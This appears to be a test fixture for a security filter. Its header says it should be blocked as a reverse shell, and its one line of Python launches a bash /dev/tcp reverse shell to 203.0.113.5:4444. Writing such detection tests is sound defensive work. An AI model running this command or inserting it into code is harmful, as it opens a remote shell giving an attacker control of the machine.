# expect: BLOCKED category: reverse_shell
# bash's /dev/tcp reverse shell, started from Python.
import os

os.system("bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'")
